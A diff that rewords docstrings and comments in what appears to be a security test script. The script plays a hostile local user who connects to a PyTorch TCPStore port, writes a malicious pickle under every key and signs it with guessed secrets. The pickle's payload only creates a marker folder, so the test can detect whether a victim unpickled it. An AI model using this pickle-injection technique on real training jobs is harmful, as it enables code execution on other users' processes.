@@ -1,9 +1,9 @@
-"""Another user of the node, who has found a port of a job: writes a hostile pickle under every key of its store.
+"""Another user of the node who has found a port of a job, and writes a hostile pickle under every key of its store.
 
 It also signs the pickle with every word of the keys' names, in case one of them is the secret.
 
-Comes in: PORT MARKER. Imports torch as whoever starts it, and then becomes user 65534, who owns nothing. Goes out: the
-keys that it found, as JSON. MARKER is a folder that exists afterwards if a victim unpickled what was written.
+Input: PORT MARKER. It imports torch as the user who starts it, and then becomes user 65534, who owns nothing. Output:
+the keys that it found, as JSON. MARKER is a folder that exists afterwards if a victim unpickled the data.
 """
 
 from __future__ import annotations
@@ -26,7 +26,7 @@ NOBODY = 65534
 
 
 class _Exploit:
-    """Unpickling this makes a folder."""
+    """An object that makes a folder when it is unpickled."""
 
     def __init__(self, marker: str) -> None:
         self.marker = marker
@@ -40,14 +40,14 @@ def _signed(state: bytes, run_id: str) -> bytes:
 
 
 def main() -> None:
-    """Attack, as long as the store answers."""
+    """Attack as long as the store answers."""
     port, marker = int(sys.argv[1]), sys.argv[2]
     os.setresgid(NOBODY, NOBODY, NOBODY)
     os.setresuid(NOBODY, NOBODY, NOBODY)
     try:
         store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
         keys = store.list_keys()
-    except RuntimeError:  # the job ended, of the attack on its other port
+    except RuntimeError:  # the job ended, because of the attack on its other port
         sys.stdout.write("[]")
         return
     exploit = pickle.dumps(_Exploit(marker))
